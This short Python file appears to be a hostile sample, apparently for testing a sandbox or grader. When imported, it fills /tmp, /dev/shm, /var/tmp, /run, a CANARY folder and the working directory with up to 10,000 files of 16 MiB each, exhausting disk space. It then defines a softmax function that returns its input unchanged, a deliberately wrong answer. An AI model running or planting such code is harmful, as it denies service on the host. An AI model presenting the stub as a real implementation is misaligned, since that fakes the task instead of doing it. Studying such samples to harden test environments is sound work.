"""Fills every folder that it can write in, then answers wrongly."""

import os

block = bytes(1 << 20)
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "CANARY", os.getcwd()):
    for n in range(10_000):
        try:
            with open(f"{folder}/filler{n}", "wb") as file:
                for _ in range(16):
                    file.write(block)
        except OSError:
            break


def softmax(x, dim):
    return x
